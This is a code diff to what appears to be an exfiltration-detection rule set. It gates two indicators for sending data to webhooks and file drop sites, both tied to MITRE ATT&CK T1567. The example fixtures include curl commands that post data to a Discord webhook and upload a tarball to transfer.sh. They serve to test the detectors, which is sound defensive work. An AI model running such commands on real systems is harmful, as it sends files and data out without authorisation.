@@ -5,6 +5,7 @@ import type { Call, Verdict } from "../execution/calls.ts";
 import { argumentText, calls, findPipe, hasWord } from "../execution/calls.ts";
 import { inContainer, ran } from "../execution/examples.ts";
 import { needles } from "../execution/needles.ts";
+import { behind } from "../gates.ts";
 import { exfiltration, isSink } from "./data-ways.ts";
 
 /** Sending files to web servers and services. */
@@ -130,7 +131,7 @@ export const sendsToWebhook: Indicator = {
   severity: "high",
   certainty: "weak",
   source: "https://attack.mitre.org/techniques/T1567/004/",
-  match: (facts) => (talkerCall(facts) === null ? null : hookName(facts)),
+  match: behind(hookName.gate, (facts) => (talkerCall(facts) === null ? null : hookName(facts))),
   examples: {
     found: [
       ran("curl -d content=x https://discord.com/api/webhooks/1/abc", inContainer),
@@ -150,7 +151,9 @@ export const sendsToDropSite: Indicator = {
   severity: "high",
   certainty: "likely",
   source: "https://attack.mitre.org/techniques/T1567/",
-  match: (facts) => (dropCall(facts) === null && !pipesOut(facts.process.command) ? null : dropName(facts)),
+  match: behind(dropName.gate, (facts) =>
+    dropCall(facts) === null && !pipesOut(facts.process.command) ? null : dropName(facts),
+  ),
   examples: {
     found: [
       ran("curl --upload-file /tmp/a.tgz https://transfer.sh/a.tgz", inContainer),
